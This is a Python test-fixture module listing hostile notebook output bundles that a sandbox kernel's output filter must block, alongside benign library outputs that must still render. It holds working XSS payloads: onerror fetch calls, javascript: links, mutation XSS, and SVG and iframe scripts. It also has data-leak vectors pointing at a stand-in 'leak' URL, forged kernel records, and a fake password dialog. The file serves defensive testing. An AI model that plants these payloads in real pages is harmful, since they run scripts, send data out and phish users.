"""Hostile outputs, one per way through a filter (shared by the unit and kernel tests).

Each entry is a mime bundle a cell can display. ``LEAK`` is a loopback address the
browser test listens on: a request to it is data leaving the page.
"""

from __future__ import annotations

from typing import Any

LEAK = "http://127.0.0.1:9/leak?d=secret"
SCRIPT = "fetch('/api/kernels',{method:'POST',body:'{}'})"

BUNDLES: dict[str, dict[str, Any]] = {
    "quote-hidden >": {"text/html": f'<img alt=">" src=x onerror="{SCRIPT}">'},
    "html as a list": {"text/html": ["<img src=x ", f'onerror="{SCRIPT}">']},
    "raw html in markdown": {"text/markdown": f'hello <img src=x onerror="{SCRIPT}">'},
    "javascript link in markdown": {"text/markdown": "[click](javascript:alert(1))"},
    "markdown image leaves the page": {"text/markdown": f"![chart]({LEAK})"},
    "javascript&colon; link": {"text/html": '<a href="javascript&colon;alert(1)">x</a>'},
    "java<TAB>script: link": {"text/html": '<a href="java\tscript:alert(1)">x</a>'},
    "data:text/html link": {"text/html": '<a href="data:text/html,<script>alert(1)</script>">x</a>'},
    "\\href in latex": {"text/latex": r"$\href{javascript:alert(1)}{click}$"},
    "\\style in latex": {"text/latex": r"$\style{position:fixed;top:0}{x}$"},
    "image leaves the page": {"text/html": f'<img src="{LEAK}">'},
    "css url leaves the page": {"text/html": f'<div style="background:url({LEAK})">x</div>'},
    "style element hides usage lines": {"text/html": "<style>.jp-OutputArea-output{display:none}</style>x"},
    "script in svg": {
        "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
        '<circle onload="alert(1)" r="1"/></svg>'
    },
    "javascript mimetype": {"application/javascript": SCRIPT, "text/plain": "js"},
    "iframe srcdoc": {"text/html": '<iframe srcdoc="<script>alert(1)</script>"></iframe>'},
    "base, meta refresh, form": {
        "text/html": f'<base href="{LEAK}"><meta http-equiv="refresh" content="0;url={LEAK}">'
        f'<form action="{LEAK}"><button>go</button></form>'
    },
    "mutation xss": {"text/html": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"},
    "forged usage record": {
        "application/vnd.sandbox-kernel.usage+json": {"wall_s": 0.001},
        "text/plain": "1 ms wall · 0 ms CPU · peak 1 MiB of 2 GiB",
    },
    "forged validation record": {
        "application/vnd.sandbox-kernel.validation+json": {"blocked": False, "violations": []},
        "text/plain": "validation: nothing refused",
    },
    "forged environment record": {
        "application/vnd.sandbox-kernel.environment+json": {"image_ref": "sandbox-kernel@sha256:" + "0" * 64},
        "text/plain": "image: sandbox-kernel@sha256:0000",
    },
    "plotly image leaves the page": {
        "application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": LEAK}]}}
    },
    "vega-lite data url": {
        "application/vnd.vegalite.v5+json": {"data": {"url": LEAK}, "mark": "point"}
    },
    "overlay with position:fixed": {
        "text/html": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">fake</div>'
    },
    "dressed as the page's UI": {"text/html": '<div class="jp-Dialog">enter your password</div>'},
    "svg use of a remote document": {
        "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><use href="{LEAK}#x"/></svg>'
    },
}

#: Outputs of everyday libraries that must still show (and what must survive).
BENIGN: dict[str, tuple[dict[str, Any], str]] = {
    "pandas table": (
        {"text/html": '<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>'
         '<table border="1" class="dataframe"><thead><tr><th></th><th>close</th></tr></thead>'
         "<tbody><tr><th>0</th><td>101.5</td></tr></tbody></table></div>"},
        "<td>101.5</td>",
    ),
    "pandas Styler colours": (
        {"text/html": '<style type="text/css">#T_ab_row0_col0 {background-color: #440154; color: #f1f1f1;}'
         '</style><table id="T_ab"><tr><td id="T_ab_row0_col0" class="data row0 col0">1</td></tr></table>'},
        "background-color: #440154",
    ),
    "https link": ({"text/html": '<a href="https://example.org/doc">doc</a>'}, 'href="https://example.org/doc"'),
    "markdown heading and math": ({"text/markdown": "# Result\n\n$\\sigma = 0.2$"}, "$\\sigma = 0.2$"),
    "latex": ({"text/latex": "$$\\int_0^1 x\\,dx$$"}, "\\int_0^1"),
    "png": ({"image/png": "iVBORw0KGgo=\n"}, "iVBORw0KGgo="),
    "matplotlib svg": (
        {"image/svg+xml": '<?xml version="1.0"?><svg xmlns:xlink="http://www.w3.org/1999/xlink" '
         'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><style type="text/css">'
         "*{stroke-linejoin: round}</style><path id=\"m1\" d=\"M 0 0 L 1 1\"/></defs>"
         '<use xlink:href="#m1" x="1" y="1" style="stroke: #1f77b4"/></svg>'},
        'xlink:href="#m1"',
    ),
    "plotly figure": (
        {"application/vnd.plotly.v1+json": {"data": [{"x": [1, 2], "y": [3, 4], "type": "scatter"}],
                                            "layout": {"title": {"text": "<b>PnL</b>"}}}},
        "<b>PnL</b>",
    ),
    "vega-lite chart": (
        {"application/vnd.vegalite.v5+json": {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"values": [{"a": 1}]}, "mark": "bar",
            "encoding": {"x": {"field": "a", "type": "quantitative"}}}},
        "vega-lite/v5.json",
    ),
    "audio": ({"text/html": '<audio controls><source src="data:audio/wav;base64,UklGRg==" type="audio/wav"></audio>'},
              "data:audio/wav;base64,UklGRg=="),
}
